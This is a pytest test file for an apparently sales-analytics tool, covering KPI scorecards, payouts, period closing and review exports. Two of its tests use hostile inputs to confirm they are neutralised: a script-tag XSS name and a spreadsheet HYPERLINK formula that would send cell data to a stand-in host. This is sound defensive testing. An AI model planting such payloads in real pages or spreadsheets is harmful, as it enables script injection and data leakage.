"""Scorecards: weighted KPIs per person from the KPI engine, each rule type computed by
hand (linear with a cap, linear where lower is better, bands, a gate), targets found by
person, then team, then the card; bad cards named by line."""

from __future__ import annotations

import json
from decimal import Decimal
from pathlib import Path

import pytest
from test_people import TEAM, _seller

from conftest import run_cli
from lianxing.app import Lianxing
from lianxing.errors import InputError
from lianxing.scorecards import load_scorecards

CARDS = """scorecards:
  - name: operator
    applies_to: {role: operator}
    kpis:
      - {kpi: sales, weight: 50, rule: linear, cap: 1.2}
      - kpi: net_margin
        weight: 30
        rule: bands
        bands: [{at: 1, points: 1}, {at: 0.8, points: 0.5}]
      - {kpi: units, weight: 20, target: 2}
    gates:
      - {kpi: net_margin, below: 0.92, zero: [sales]}
  - name: manager
    applies_to: {role: manager}
    kpis:
      - {kpi: net_profit, weight: 60, floor: -10}
      - {kpi: referral_fee_pct, weight: 40, floor: 50%}
"""
TARGETS = """targets:
  - {kpi: sales, scope: "person:li", stages: [{from: 2026-01, target: 20}]}
  - {kpi: sales, scope: "team:us", stages: [{from: 2026-01, target: 15}]}
  - {kpi: net_margin, scope: "team:us", stages: [{from: 2026-01, target: 0.95}]}
  - {kpi: net_profit, scope: "person:wang", stages: [{from: 2026-01, target: 10}]}
  - {kpi: referral_fee_pct, scope: "person:wang", stages: [{from: 2026-01, target: 10%}]}
"""


def _team(tmp_path: Path) -> Path:
    ws = _seller(tmp_path)
    (ws / "people.yaml").write_text(TEAM, "utf-8")
    (ws / "scorecards.yaml").write_text(CARDS, "utf-8")
    (ws / "targets.yaml").write_text(TARGETS, "utf-8")
    return ws


def test_scorecards_computed_by_hand(tmp_path: Path) -> None:
    ws = _team(tmp_path)
    with Lianxing.open(ws) as lx:
        rows = {r["person"]: r for r in lx.team_score("2026-03")}
    assert set(rows) == {"li", "zhao", "wang"}  # the owner has no card: not scored
    li = {k["name"]: k for k in rows["li"]["kpis"]}
    # li: MUG on the 2nd — sales 10, net 9 (commission 1), 1 unit, margin 0.9
    # sales: 10 of li's own target 20 → 25, but net margin 0.9 < 0.92 shuts the gate → 0
    assert li["sales"]["target"] == 20 and li["sales"]["points"] == 0
    assert li["sales"]["status"] == "gated"
    # net margin 0.9 of the team's 0.95: attainment 0.9474 → the 0.8 band, half of 30
    assert li["net_margin"]["attainment"] == Decimal("0.9474")
    assert li["net_margin"]["points"] == Decimal("15.00")
    # units 1 of the card's own target 2 → 10 of 20
    assert li["units"]["points"] == Decimal("10.00")
    assert rows["li"]["total"] == Decimal("25.00")
    zhao = {k["name"]: k for k in rows["zhao"]["kpis"]}
    # zhao: MUG on the 20th — sales 20 of the team's 15 → 133 %, capped at 120 % of 50
    assert zhao["sales"]["points"] == Decimal("60.00")
    assert zhao["net_margin"]["points"] == Decimal("30.00")  # 0.95 / 0.95 = 1
    assert rows["zhao"]["total"] == Decimal("100.00")
    wang = {k["name"]: k for k in rows["wang"]["kpis"]}
    # wang: CUP 7 − commission 1 − subscription 3 = 3; (3 + 10) / (10 + 10) × 60 = 39
    assert wang["net_profit"]["points"] == Decimal("39.00")
    # referral fee 1 / 7 = 0.1429, lower is better: (0.1429 − 0.5) / (0.10 − 0.5) × 40
    assert wang["referral_fee_pct"]["value"] == Decimal("0.1429")
    assert wang["referral_fee_pct"]["points"] == Decimal("35.71")
    assert rows["wang"]["total"] == Decimal("74.71")
    assert [rows[p]["rank"] for p in ("zhao", "wang", "li")] == [1, 2, 3]


def test_score_json_contract_and_tables(tmp_path: Path) -> None:
    ws = _team(tmp_path)
    result = run_cli(["-w", str(ws), "team", "score", "--period", "2026-03", "--format", "json"])
    assert result.exit_code == 0, result.stderr
    people = json.loads(result.stdout)
    assert [p["person"] for p in people] == ["zhao", "wang", "li"]
    first = people[0]
    assert Decimal(first["total"]) == 100 and first["rank"] == 1
    assert {"name", "value", "target", "points"} <= set(first["kpis"][0])
    table = run_cli(["-w", str(ws), "--lang", "zh", "team", "score", "--period", "2026-03"])
    assert table.exit_code == 0 and "未过门槛" in table.stdout and "考核表" in table.stdout
    csv = run_cli(["-w", str(ws), "team", "score", "--period", "2026-03", "--format", "csv"])
    assert csv.stdout.splitlines()[0].startswith("rank,person,name,total,kpi,weight")
    listed = run_cli(["-w", str(ws), "team", "people", "--format", "json"])
    owns = {p["person"]: p["owns"] for p in json.loads(listed.stdout)}
    assert owns["li"] == "sku:MUG 2026-01-01…2026-03-14"
    missing = run_cli(["-w", str(ws), "team", "score", "--period", "2026-03", "--team", "eu"])
    assert missing.exit_code == 2 and "eu" in missing.stderr


def test_a_missing_target_scores_nothing_and_says_so(tmp_path: Path) -> None:
    ws = _team(tmp_path)
    (ws / "targets.yaml").write_text("targets: []\n", "utf-8")
    with Lianxing.open(ws) as lx:
        wang = next(r for r in lx.team_score("2026-03") if r["person"] == "wang")
    assert {k["status"] for k in wang["kpis"]} == {"no_target"} and wang["total"] == 0


def _bad(tmp_path: Path, text: str) -> InputError:
    path = tmp_path / "scorecards.yaml"
    path.write_text(text, "utf-8")
    kpis = {"sales": "higher", "acos": "lower", "units": "higher"}
    with pytest.raises(InputError) as caught:
        load_scorecards(path, kpis)
    return caught.value


def test_bad_scorecards_are_named_by_line(tmp_path: Path) -> None:
    head = "scorecards:\n  - name: x\n    applies_to: {role: operator}\n    kpis:\n"
    cases = {
        head + "      - {kpi: sales, weight: 60}\n      - {kpi: units, weight: 30}\n":
            "scorecards.weights",
        head + "      - {kpi: nope, weight: 100}\n": "scorecards.unknown_kpi",
        head + "      - {kpi: acos, weight: 100}\n": "scorecards.floor_needed",
        head + "      - {kpi: sales, weight: 100, rule: steps}\n": "scorecards.bad_rule",
        head + "      - {kpi: sales, weight: 100, cap: 5}\n": "scorecards.bad_cap",
        head + "      - {kpi: sales, weight: 100, rule: bands}\n": "scorecards.bad_bands",
        head + "      - {kpi: sales, weight: 100}\n    gates: [{kpi: sales, zero: [sales]}]\n":
            "scorecards.bad_gate",
        "scorecards:\n  - name: x\n    applies_to: {role: boss}\n    kpis: []\n":
            "scorecards.bad_applies",
    }  # fmt: skip
    for text, key in cases.items():
        error = _bad(tmp_path, text)
        assert error.key == key, text
        assert error.problems[0].line == 2, text


def test_adjustments_closing_and_reopening_keep_an_audit_trail(tmp_path: Path) -> None:
    from conftest import v2_row, write_v2

    ws = _team(tmp_path)
    with Lianxing.open(ws) as lx:
        lx.team_adjust("2026-03", "wang", "5", "Covered the Walmart launch", "boss")
        lx.team_adjust("2026-03", "wang", "-1.5", "Late report", "boss")
        wang = next(r for r in lx.team_score("2026-03") if r["person"] == "wang")
        assert wang["kpi_points"] == Decimal("74.71") and wang["adjustment"] == Decimal("3.50")
        assert wang["total"] == Decimal("78.21")
        assert [a["reason"] for a in wang["adjustments"]] == ["Covered the Walmart launch",
                                                              "Late report"]  # fmt: skip
        for bad in (("", "boss"), ("ok", "")):
            with pytest.raises(InputError) as caught:
                lx.team_adjust("2026-03", "wang", "1", *bad)
            assert caught.value.key == "team.bad_text"
        for points in ("lots", "101", "0.001", "NaN"):
            with pytest.raises(InputError) as caught:
                lx.team_adjust("2026-03", "wang", points, "x", "boss")
            assert caught.value.key == "team.bad_points"
        with pytest.raises(InputError) as caught:
            lx.team_adjust("2026-03", "nobody", "1", "x", "boss")
        assert caught.value.key == "team.unknown_person"
        before = lx.team_score("2026-03")
        lx.team_close("2026-03", "boss", partial=True)
        # Later data: zhao sells another MUG on March 25.
        rows = [v2_row("Order", "ItemPrice", "Principal", "30.00", order="9", sku="MUG", qty="1",
                       when="2026-03-25 18:00:00 UTC")]  # fmt: skip
        lx.import_file(write_v2(tmp_path / "late.txt", rows, settlement_id="2222"),
                       store_id="amazon-com")  # fmt: skip
        zhao_now = lx.kpi(["sales"], by="person", period="total").rows
        assert {r["person"]: r["sales"] for r in zhao_now}["zhao"] == Decimal("50.00")
        closed = lx.team_score("2026-03")
        assert all(r["closed"] and r["closed_by"] == "boss" for r in closed)
        strip = ("closed", "closed_by", "closed_at")
        assert [{k: v for k, v in r.items() if k not in strip} for r in closed] == [
            {k: v for k, v in r.items() if k not in strip} for r in before
        ]
        with pytest.raises(InputError) as caught:
            lx.team_adjust("2026-03", "li", "1", "x", "boss")
        assert caught.value.key == "team.closed"
        with pytest.raises(InputError) as caught:
            lx.team_close("2026-03", "boss", partial=True)
        assert caught.value.key == "team.closed"
        lx.team_reopen("2026-03", "wang", "The late settlement belongs in March")
        reopened = {r["person"]: r for r in lx.team_score("2026-03")}
        zhao_sales = next(k for k in reopened["zhao"]["kpis"] if k["name"] == "sales")
        assert zhao_sales["value"] == Decimal("50.00") and not reopened["zhao"]["closed"]
        actions = [(e["action"], e["made_by"]) for e in lx.team_log("2026-03")]
    assert actions == [("adjust", "boss"), ("adjust", "boss"), ("close", "boss"),
                       ("reopen", "wang")]  # fmt: skip
    shown = run_cli(["-w", str(ws), "team", "log", "--format", "json"])
    assert shown.exit_code == 0 and "Late report" in shown.stdout
    cli = run_cli(["-w", str(ws), "team", "adjust", "li", "--period", "2026-03", "--points",
                   "2", "--reason", "Helped", "--by", "wang"])  # fmt: skip
    assert cli.exit_code == 0, cli.stderr
    closing = run_cli(["-w", str(ws), "team", "close", "--period", "2026-03", "--by", "boss",
                       "--partial"])  # fmt: skip
    assert closing.exit_code == 0
    again = run_cli(["-w", str(ws), "team", "reopen", "--period", "2026-02", "--by", "boss",
                     "--reason", "x"])  # fmt: skip
    assert again.exit_code == 2 and "2026-02" in again.stderr


PAY = """pay:
  - name: operators
    applies_to: {role: operator}
    currency: USD
    rules:
      - {rule: score, base: 1000}
      - {rule: profit_share, share: 10%, above: 10}
      - {rule: tiers, tiers: [{from: 90, amount: 200}, {from: 50, amount: 50}]}
  - name: manager
    applies_to: {people: [wang]}
    currency: CNY
    rules:
      - {rule: score, base: 8000}
      - {rule: profit_share, share: 5%}
"""


def test_payout_computed_by_hand_and_exported(tmp_path: Path) -> None:
    import csv

    from openpyxl import load_workbook

    ws = _team(tmp_path)
    (ws / "pay.yaml").write_text(PAY, "utf-8")
    rates = tmp_path / "rates.csv"
    rates.write_text("date,from,to,rate\n2026-01-01,USD,CNY,7.0\n", "utf-8")
    with Lianxing.open(ws) as lx:
        lx.import_file(rates)
        rows = {r["person"]: r for r in lx.team_payout("2026-03")}
    # li: score 25 → 1000 × 25 % = 250; net profit 9 is under the 10 threshold; no tier
    assert (rows["li"]["score_pay"], rows["li"]["profit_share"], rows["li"]["tier_pay"]) == (
        Decimal("250.00"), Decimal("0.00"), Decimal("0.00"))  # fmt: skip
    # zhao: score 100 → 1000; 10 % of (19 − 10) = 0.90; the 90+ tier: 200
    assert rows["zhao"]["payout"] == Decimal("1200.90")
    # wang, in CNY: 8000 × 74.71 % = 5976.80; 5 % of 3 USD × 7.0 = 21 CNY → 1.05
    assert rows["wang"]["currency"] == "CNY" and rows["wang"]["owned_net_profit"] == 21
    assert rows["wang"]["payout"] == Decimal("5977.85")
    sheet = tmp_path / "out" / "payout.xlsx"
    result = run_cli(["-w", str(ws), "team", "payout", "--period", "2026-03", "--out", str(sheet)])
    assert result.exit_code == 0, result.stderr
    book = load_workbook(sheet)
    cells = list(book.active.iter_rows(values_only=True))
    header, body = cells[0], {r[0]: dict(zip(cells[0], r, strict=True)) for r in cells[1:]}
    assert "Payout" in header and Decimal(str(body["zhao"]["Payout"])) == Decimal("1200.90")
    assert isinstance(body["wang"]["Payout"], float | int)  # a number the sheet can sum
    table = tmp_path / "payout.csv"
    zh = run_cli(["-w", str(ws), "--lang", "zh", "team", "payout", "--period", "2026-03",
                  "--out", str(table)])  # fmt: skip
    assert zh.exit_code == 0
    with table.open(encoding="utf-8-sig") as f:
        read = {r["人员"]: r for r in csv.DictReader(f)}
    assert read["wang"]["应发合计"] == "5977.85"
    bad = run_cli(["-w", str(ws), "team", "payout", "--period", "2026-03", "--out",
                   str(tmp_path / "x.pdf")])  # fmt: skip
    assert bad.exit_code == 2 and not (tmp_path / "x.pdf").exists()
    (ws / "pay.yaml").write_text("pay:\n  - {name: x, applies_to: {role: operator}, "
                                 "currency: EUR, rules: [{rule: score, base: 1}]}\n")  # fmt: skip
    wrong = run_cli(["-w", str(ws), "team", "payout", "--period", "2026-03"])
    assert wrong.exit_code == 2 and "EUR" not in wrong.stdout and "CNY" in wrong.stderr


def test_review_page_and_workbook(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    ws = _team(tmp_path)
    # A hostile name is shown as text, never run as markup.
    (ws / "people.yaml").write_text(
        TEAM.replace("name: 赵", 'name: "<script>alert(1)</script>"'), "utf-8"
    )
    result = run_cli(["-w", str(ws), "team", "review", "zhao", "--period", "2026-03"])
    assert result.exit_code == 0, result.stderr
    page = (ws / "reviews" / "review-zhao-2026-03.html").read_text("utf-8")
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "Rank 1 of 3" in page and "Sales" in page and "Comments" in page
    # zhao's only SKU is MUG: 19 of net profit this March, nothing in February
    assert "MUG" in page and "19.00" in page
    assert "http" not in page.replace('lang="en"', "")  # nothing loaded from outside
    book = load_workbook(ws / "reviews" / "review-zhao-2026-03.xlsx")
    # No unit costs are imported and net margin is computed from COGS: a Warnings sheet.
    assert len(book.sheetnames) == 4 and book.sheetnames[3] == "Warnings"
    kpis = list(book[book.sheetnames[0]].iter_rows(values_only=True))
    assert [r[0] for r in kpis[1:]] == ["sales", "net_margin", "units"]
    zh = run_cli(["-w", str(ws), "--lang", "zh", "team", "review", "li", "--period", "2026-03",
                  "--out", str(tmp_path / "li.html")])  # fmt: skip
    assert zh.exit_code == 0 and "复盘" in (tmp_path / "li.html").read_text("utf-8")
    unknown = run_cli(["-w", str(ws), "team", "review", "boss", "--period", "2026-03"])
    assert unknown.exit_code == 2 and "boss" in unknown.stderr


def test_history_month_by_month(tmp_path: Path) -> None:
    ws = _team(tmp_path)
    with Lianxing.open(ws) as lx:
        lx.team_close("2026-03", "boss", partial=True)
        rows = lx.team_history("2026-02", "2026-03")
        with pytest.raises(InputError) as caught:
            lx.team_history("2026-03", "2026-02")
    assert caught.value.key == "team.bad_range"
    march = {r["person"]: r for r in rows if r["period"] == "2026-03"}
    february = {r["person"]: r for r in rows if r["period"] == "2026-02"}
    assert march["zhao"]["total"] == 100 and march["zhao"]["closed"]
    # nothing sold in February: every KPI has no value, so nobody scores
    assert {r["total"] for r in february.values()} == {0} and not february["li"]["closed"]
    shown = run_cli(["-w", str(ws), "team", "history", "--from", "2026-02", "--to", "2026-03",
                     "--format", "csv"])  # fmt: skip
    assert shown.exit_code == 0 and shown.stdout.startswith("period,rank,person")


def test_built_in_scorecards_template(tmp_path: Path) -> None:
    ws = _team(tmp_path)
    (ws / "scorecards.yaml").unlink()
    first = run_cli(["-w", str(ws), "team", "template"])
    assert first.exit_code == 0, first.stderr
    again = run_cli(["-w", str(ws), "team", "template"])
    assert again.exit_code == 2 and "--force" in again.stderr
    with Lianxing.open(ws) as lx:
        cards = {r["scorecard"] for r in lx.team_score("2026-03")}
    assert cards == {"operator", "manager"}


def test_review_fixes_scoring_edges() -> None:
    """A floor on the wrong side of the target scores nothing (never backwards), a
    perfect zero where lower is better reaches the top band, no −0.00, empty gates
    refused."""
    from lianxing.scorecards import Band, CardKpi, floor_misplaced, points

    linear = CardKpi("net_profit", Decimal(40), "linear", Decimal(0), Decimal("1.2"), (), None,
                     None)  # fmt: skip
    # a loss target of −1000 with the default floor 0: the floor is above the target
    assert floor_misplaced(linear, Decimal(-1000), True)
    assert points(linear, Decimal(-2000), Decimal(-1000), True) == (Decimal("0.00"), None)
    fixed = CardKpi("net_profit", Decimal(40), "linear", Decimal(-3000), Decimal(1), (), None,
                    None)  # fmt: skip
    assert points(fixed, Decimal(-2000), Decimal(-1000), True)[0] == Decimal("20.00")
    assert points(fixed, Decimal(-500), Decimal(-1000), True)[0] == Decimal("40.00")
    earned, _ = points(fixed, Decimal(-3500), Decimal(-1000), True)
    assert str(earned) == "0.00"  # not -0.00
    bands = CardKpi("return_rate", Decimal(15), "bands", None, Decimal(1),
                    (Band(Decimal(1), Decimal(1)), Band(Decimal("0.8"), Decimal("0.5"))), None,
                    None)  # fmt: skip
    assert points(bands, Decimal(0), Decimal("0.05"), False)[0] == Decimal("15.00")
    assert points(bands, Decimal("0.06"), Decimal("0.05"), False)[0] == Decimal("7.50")


def test_empty_gate_list_is_refused(tmp_path: Path) -> None:
    head = "scorecards:\n  - name: x\n    applies_to: {role: operator}\n    kpis:\n"
    error = _bad(tmp_path, head + "      - {kpi: sales, weight: 100}\n"
                 "    gates: [{kpi: sales, below: 1, zero: []}]\n")  # fmt: skip
    assert error.key == "scorecards.bad_gate"


def test_exports_are_private_and_never_run_formulas(tmp_path: Path) -> None:
    import csv
    import stat

    from openpyxl import load_workbook

    from lianxing.export import write_table, write_text

    rows = [{"name": '=HYPERLINK("http://x.example/?"&A1,"click")', "payout": Decimal("1.50")},
            {"name": "+1-555", "payout": Decimal("-2.00")}]  # fmt: skip
    sheet = write_table(tmp_path / "p.xlsx", rows, ["name", "payout"], {})
    cells = list(load_workbook(sheet).active.iter_rows(min_row=2))
    assert cells[0][0].data_type == "s" and cells[0][0].value.startswith("=HYPERLINK")
    assert cells[1][1].value == -2  # numbers stay numbers, negative ones too
    table = write_table(tmp_path / "p.csv", rows, ["name", "payout"], {})
    with table.open(encoding="utf-8-sig") as f:
        read = list(csv.reader(f))
    assert read[1][0].startswith("'=") and read[2][0] == "'+1-555" and read[2][1] == "-2.00"
    page = write_text(tmp_path / "r.html", "<p>x</p>")
    for path in (sheet, table, page):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert not list(tmp_path.glob(".lianxing-*"))  # no temporary files left


def test_ties_share_a_rank_and_history_takes_whole_quarters(tmp_path: Path) -> None:
    ws = _team(tmp_path)
    with Lianxing.open(ws) as lx:
        lx.team_adjust("2026-03", "wang", "25.29", "Same as zhao", "boss")  # 74.71 → 100
        ranks = {r["person"]: r["rank"] for r in lx.team_score("2026-03")}
        history = lx.team_history("2026-01", "2026-Q1")
    assert ranks == {"wang": 1, "zhao": 1, "li": 3}
    assert sorted({r["period"] for r in history}) == ["2026-01", "2026-02", "2026-03"]


def test_review_compares_a_quarter_with_the_quarter_before(tmp_path: Path) -> None:
    ws = _team(tmp_path)
    with Lianxing.open(ws) as lx:
        review = lx.team_review("zhao", "2026-Q2")
        month = lx.team_review("zhao", "2026-03")
    assert review["before"] == "2026-01-01…2026-03-31"
    assert month["before"] == "2026-02-01…2026-02-28"
    # the quarter before holds zhao's March sale: it is the one that fell most
    assert [r["sku"] for r in review["hurt"]] == ["MUG"]
